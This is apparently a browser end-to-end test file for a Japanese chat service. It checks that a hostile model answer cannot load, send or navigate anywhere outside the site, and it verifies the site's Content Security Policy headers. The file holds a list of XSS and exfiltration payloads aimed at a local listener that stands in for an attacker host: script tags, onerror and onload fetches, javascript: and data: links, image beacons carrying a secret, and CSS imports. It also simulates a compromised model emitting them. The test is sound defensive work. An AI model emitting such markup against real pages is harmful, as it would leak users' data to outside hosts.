import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runningStack } from '#libs/testing';
import { launchBrowser, openWindow } from './support/browser.ts';
import { Chat } from './support/chat.ts';
import { credentialsOf, demoCity, memberOf } from './support/people.ts';
import { AT_ONCE, modelBehaves } from './support/simulator.ts';

const { origins } = runningStack();
const city = demoCity(2);
const staff = credentialsOf(city, memberOf(city, 'staff'));

/** A place outside that would hear of anything that got out. */
interface Outside extends AsyncDisposable {
  readonly origin: string;
  readonly heard: readonly string[];
}

async function listenOutside(): Promise<Outside> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url!);
    response.setHeader('access-control-allow-origin', '*').end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = () => new Promise<void>((resolve) => server.close(() => resolve()));
  return { origin: `http://127.0.0.1:${port}`, heard, [Symbol.asyncDispose]: stop };
}

/** All the ways out that Markdown knows, and some that it does not. */
const hostile = (outside: string): string => `![絵](${outside}/image?secret=1)

[押してください](${outside}/link) [スクリプト](javascript:fetch('${outside}/javascript')) <${outside}/autolink> ${outside}/bare

[参照][1] ![参照画像][1]

[1]: ${outside}/reference "題"

<script>fetch('${outside}/script')</script>
<img src="${outside}/raw-image" onerror="fetch('${outside}/onerror')">
<iframe src="${outside}/frame"></iframe>
<form action="${outside}/form"><button>送信する</button></form>
<style>@import url('${outside}/style'); body { background: url('${outside}/background') }</style>
<link rel="prefetch" href="${outside}/prefetch"><meta http-equiv="refresh" content="0;url=${outside}/refresh">
<svg onload="fetch('${outside}/svg')"><a href="javascript:alert(1)">x</a></svg>

| 表 | ![表の絵](${outside}/table) |
| --- | --- |
| <a href="${outside}/cell">x</a> | \`code\` |

[データ](data:text/html,<script>alert(1)</script>) [相対](//${outside.slice(7)}/relative)

以上です。`;

const eventStream = (text: string): string =>
  [
    ['queued', { position: 0, estimatedWaitMs: 0 }],
    ['started', { attempt: 1, model: 'claude-sonnet-4.6', simulated: true }],
    ['delta', { offset: 0, text }],
    ['completed', { finishReason: 'stop' }],
  ]
    .map(([event, data]) => `event: ${String(event)}\ndata: ${JSON.stringify(data)}\n\n`)
    .join('');

/** A model that has turned: what the page is told the answer is, is this. */
const answerWith = (page: Page, text: string): Promise<unknown> =>
  page.route('**/api/v1/jobs/*/events', (route) =>
    route.fulfill({ contentType: 'text/event-stream; charset=utf-8', body: eventStream(text) }),
  );

describe('a hostile answer', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());

  it('loads nothing, sends nothing and leads nowhere', async () => {
    await using outside = await listenOutside();
    await using window = await openWindow(browser, origins.lgwan);
    await using _ = await modelBehaves(AT_ONCE);
    const { page } = window;
    const chat = new Chat(page);
    await answerWith(page, hostile(outside.origin));
    await chat.signIn(staff);
    await chat.ask(hostile(outside.origin));
    await chat.answer.getByText('以上です。').waitFor();

    expect(
      await chat.turns.locator('a, img, iframe, form, script, style, link, meta, object, svg[onload]').count(),
    ).toBe(0);
    const address = page.url();
    for (const words of ['押してください', 'スクリプト', '参照', 'データ'])
      await chat.answer.getByText(words).first().click();
    await page.waitForLoadState('networkidle');
    expect(page.url()).toBe(address);
    expect(window.context.pages()).toHaveLength(1);
    expect(window.requests.filter((url) => !url.startsWith(`${origins.lgwan}/`))).toEqual([]);
    expect(outside.heard).toEqual([]);
    expect(window.faults).toEqual([]);
    // Nobody heard anything, and it was not for being deaf
    await fetch(`${outside.origin}/control`);
    expect(outside.heard).toEqual(['/control']);
  });

  it('could not reach out even if it became markup and script', async () => {
    await using outside = await listenOutside();
    await using window = await openWindow(browser, origins.lgwan);
    const { page } = window;
    await page.goto('/sign-in');
    await page.getByLabel('団体コード').waitFor();
    const violated = await page.evaluate(async (to) => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      );
      const place = (tag: string, attributes: Record<string, string>) => {
        const element = document.body.appendChild(document.createElement(tag));
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        return element;
      };
      place('img', { src: `${to}/image` });
      place('iframe', { src: `${to}/frame` });
      place('object', { data: `${to}/object` });
      place('link', { rel: 'stylesheet', href: `${to}/style` });
      place('video', { src: `${to}/video` });
      // Not every browser reads a handler before it is called.
      place('div', { onclick: `fetch('${to}/handler')` }).click();
      await fetch(`${to}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${to}/beacon`);
      const form = document.createElement('form');
      form.action = `${to}/form`;
      document.body.append(form);
      form.submit();
      for (let looks = 0; new Set(directives).size < 8 && looks < 200; looks++)
        await new Promise((resolve) => requestAnimationFrame(resolve));
      return [...new Set(directives)].toSorted();
    }, outside.origin);
    expect(violated).toEqual([
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src-attr',
      'style-src-elem',
    ]);
    expect(outside.heard).toEqual([]);
  });

  it.each(['/', '/sign-in', '/admin/members', '/no-such-page'])(
    'meets the same policy on %s: nothing from, and nothing to, another origin',
    async (path) => {
      const { headers } = await fetch(`${origins.lgwan}${path}`);
      const policy = headers.get('content-security-policy') ?? '';
      expect(policy).toMatch(/^default-src 'self';/);
      expect(policy).not.toMatch(/unsafe-|\*|https?:/);
      expect(policy).toMatch(/script-src 'self' 'nonce-[\w-]+' 'strict-dynamic'/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('x-powered-by')).toBeNull();
    },
  );
});
